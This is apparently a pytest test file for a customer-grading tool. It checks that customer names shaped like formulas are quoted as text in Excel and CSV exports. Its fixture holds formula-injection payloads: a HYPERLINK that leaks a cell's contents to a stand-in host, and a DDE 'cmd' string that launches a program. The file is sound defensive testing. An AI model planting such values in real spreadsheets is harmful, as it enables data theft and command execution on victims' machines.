"""Exports of customer data open safely in a spreadsheet: a name that looks like a formula
(=HYPERLINK(…), =1+1, +…, -…, @…, a leading tab or carriage return) is written as text, in
the Excel file (a string cell) and in the CSV (a leading apostrophe), from the command line
and from the workbench's download."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.conftest import DATA
from tierwise.cli import main
from tierwise.reports.grading_table import as_text
from tierwise.web import create_app
from tierwise.work import users
from tierwise.workspace import Workspace

NAMES = {
    "C1": '=HYPERLINK("http://x.example/?"&A3,"click")',
    "C2": "+86 cmd|' /C calc'!A0",
    "C3": "-2+3",
    "C4": "@SUM(A1:A9)",
}


@pytest.fixture
def hostile(tmp_path: Path, database_url: str) -> Workspace:
    rows = list(csv.reader((DATA / "customers.csv").open(encoding="utf-8")))
    for row in rows[1:]:
        row[1] = NAMES.get(row[0], row[1])
    customers = tmp_path / "customers.csv"
    with customers.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    ws = Workspace.init(tmp_path / "ws", policy=str(DATA / "policy.yaml"))
    ws.import_files("customers", [customers])
    ws.import_files("orders", [DATA / "orders.csv"])
    ws.grade(as_of=dt.date(2025, 6, 30))
    return ws


def names_in_sheet(path: Path) -> dict[str, tuple[object, str]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    return {str(sheet.cell(r, 1).value): (sheet.cell(r, 2).value, sheet.cell(r, 2).data_type)
            for r in range(3, sheet.max_row + 1)}


def test_formula_like_names_are_text_cells_in_the_excel_export(hostile: Workspace,
                                                               tmp_path: Path) -> None:
    target = tmp_path / "分级表.xlsx"
    result = CliRunner().invoke(main, ["export", "-o", str(target), "-w", str(hostile.root)])
    assert result.exit_code == 0, result.output
    found = names_in_sheet(target)
    for customer, name in NAMES.items():
        assert found[customer] == (name, "s")


def test_formula_like_names_start_with_an_apostrophe_in_the_csv_export(hostile: Workspace,
                                                                       tmp_path: Path) -> None:
    target = tmp_path / "grading.csv"
    result = CliRunner().invoke(main, ["export", "-o", str(target), "-w", str(hostile.root)])
    assert result.exit_code == 0, result.output
    rows = {r[0]: r[1] for r in csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig")))}
    for customer, name in NAMES.items():
        assert rows[customer] == "'" + name


def test_the_workbench_download_writes_them_as_text_too(hostile: Workspace,
                                                       tmp_path: Path) -> None:
    users.add_user(hostile.appdb, "boss", "admin", "correct horse battery")
    made = users.create_token(hostile.appdb, users.get_user(hostile.appdb, "boss"), "t")
    with TestClient(create_app(hostile.root)) as client:
        client.headers["Authorization"] = f"Bearer {made}"
        download = client.get("/customers.xlsx")
    assert download.status_code == 200
    path = tmp_path / "download.xlsx"
    path.write_bytes(download.content)
    found = names_in_sheet(path)
    assert all(found[c] == (name, "s") for c, name in NAMES.items())


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tX", "\rX"])
def test_every_formula_start_is_quoted_and_plain_text_is_not(text: str) -> None:
    assert as_text(text) == "'" + text
    assert as_text("华东机械 =1") == "华东机械 =1" and as_text(-1.5) == -1.5
